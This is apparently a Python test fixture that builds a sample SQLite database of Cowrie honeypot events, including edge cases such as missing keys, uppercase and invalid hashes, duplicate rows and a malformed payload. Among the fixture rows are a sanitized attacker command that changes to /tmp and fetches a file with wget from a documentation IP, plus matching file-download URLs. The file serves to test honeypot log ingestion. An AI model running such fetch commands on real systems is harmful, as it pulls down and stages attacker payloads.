"""A v3 database built from what is known of it: its DDL, and rows with the habits that v3 data has."""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from contextlib import closing
from pathlib import Path
from typing import Any

from benchmarks.v3.schema import INDEXES, PLANNED_FILES, TABLES, V1_CONSTRAINT, index_statements, table_statements
from tests.other_connections import sqlite3

__all__ = [
    "INDEXES",
    "LOG",
    "PLANNED_FILES",
    "ROTATED",
    "SHA_A",
    "SHA_B",
    "TABLES",
    "V1_CONSTRAINT",
    "create",
    "event",
    "habits",
    "insert_events",
]

LOG = "/var/log/cowrie/cowrie.json"
ROTATED = "/var/log/cowrie/cowrie.json.2025-01-02"
SHA_A = "a" * 64
SHA_B = "b" * 64


def event(eventid: str, session: str | None, timestamp: str | None, **fields: object) -> dict[str, object]:
    """Return one Cowrie event as v3 stored it; a None leaves the key out."""
    named = {"eventid": eventid, "session": session, "timestamp": timestamp, "sensor": "sensor-1", **fields}
    return {key: value for key, value in named.items() if value is not None or key in fields}


def habits() -> list[dict[str, object]]:
    """Return payloads with every habit of v3 data that code over it meets."""
    at = "2025-01-02T03:04:{:02d}.000000Z".format
    download = "cowrie.session.file_download"
    return [
        event("cowrie.session.connect", "s1", at(0), src_ip="203.0.113.7", protocol="ssh"),
        event("cowrie.login.success", "s1", at(1), username="root", password="x"),
        event(
            "cowrie.command.input",
            "s1",
            at(2),
            input=None,
            command=None,
            input_safe="cd /tmp [SC] wget [URL]203.0.113.9/x",
            input_hash="0" * 64,
        ),
        event(download, "s1", at(3), shasum=SHA_A, url="http://203.0.113.9/x", outfile=f"var/{SHA_A}"),
        event(download, "s1", at(4), shasum=SHA_A.upper(), url="http://203.0.113.9/y"),
        event(download, "s1", at(5), shasum="", url="http://203.0.113.9/empty"),
        event(f"{download}.failed", "s1", at(6), url="http://203.0.113.9/z"),
        event("cowrie.session.file_upload", "s2", "2025-01-02T09:00:00+05:30", shasum=SHA_B, filename="a.bin"),
        event(download, "s2", None, shasum=SHA_A),
        event(download, "s2", at(8), shasum="not a hash"),
        {"malformed": '{"eventid": "cowrie.session.conn'},
        {},
    ]


def create(
    path: Path,
    *,
    payloads: Iterable[Mapping[str, object]] | None = None,
    version: str = "3",
    from_v1: bool = False,
    planned_files: bool = False,
) -> Path:
    """Write a v3 database and return its path.

    Args:
        path: where; nothing may be there.
        payloads: raw events; `habits()` by default, with everything that belongs to them.
        version: what `schema_state` says.
        from_v1: give raw_events the constraint of a file upgraded from v1.
        planned_files: add the plan's `files` table.
    """
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("PRAGMA journal_mode=WAL")
        for statement in table_statements(from_v1=from_v1) + index_statements(planned_files=planned_files):
            connection.execute(statement)
        connection.execute("INSERT INTO schema_state VALUES ('schema_version', ?)", (version,))
        insert_events(connection, habits() if payloads is None else payloads)
        if payloads is None:
            _insert_what_belongs(connection, from_v1=from_v1)
    return path


def insert_events(connection: Any, payloads: Iterable[Mapping[str, object]], source: str = LOG) -> None:
    """Insert raw events as v3 did: one row a payload, numbered by its line."""
    connection.executemany(
        "INSERT INTO raw_events (ingest_id, source, source_offset, source_inode, payload, payload_hash,"
        " risk_score, quarantined) VALUES ('i1', ?, ?, '77', ?, ?, 0, ?)",
        (
            (source, line, json.dumps(payload), f"{line:064x}", int("eventid" not in payload))
            for line, payload in enumerate(payloads)
        ),
    )


def _insert_what_belongs(connection: Any, *, from_v1: bool) -> None:
    """Insert the rotated copy, rows without inode, doubled counters, the cursor and a dead letter."""
    insert_events(connection, habits()[:4], source=ROTATED)
    for line in (1000, 1001 if from_v1 else 1000):  # a NULL inode never conflicts: v3 stored such rows twice
        closed = event("cowrie.session.closed", "s1", "2025-01-02T03:05:00.000000Z")
        connection.execute(
            "INSERT INTO raw_events (source, source_offset, payload) VALUES (?, ?, ?)",
            (LOG, line, json.dumps(closed)),
        )
    day, files = "2025-01-02", json.dumps([LOG])
    connection.executemany(
        "INSERT INTO session_summaries (session_id, first_event_at, last_event_at, event_count,"
        " command_count, file_downloads, login_attempts, matcher, source_files, enrichment)"
        " VALUES (?, ?, ?, ?, ?, ?, ?, 'sensor-1', ?, ?)",
        (
            ("s1", f"{day} 03:04:00.000000", f"{day} 03:05:00.000000", 16, 2, 8, 2, files, "null"),
            ("s2", f"{day} 09:00:00.000000", None, 6, 0, 6, 0, files, '{"vt": {}}'),
        ),
    )
    connection.execute(
        "INSERT INTO ingest_cursors (source, inode, last_offset, metadata_json) VALUES (?, '77', 11, ?)",
        (LOG, json.dumps({"generation": 0, "first_hash": f"{0:064x}"})),
    )
    connection.execute(
        "INSERT INTO dead_letter_events (source, source_offset, reason, payload) VALUES (?, 10, 'validation', ?)",
        (LOG, json.dumps({"malformed": '{"eventid": "cowrie.session.conn'})),
    )


SESSIONS = (
    "SELECT session_id, first_event_at, last_event_at, event_count, command_count, file_downloads, login_attempts"
    " FROM session_summaries ORDER BY session_id"
)
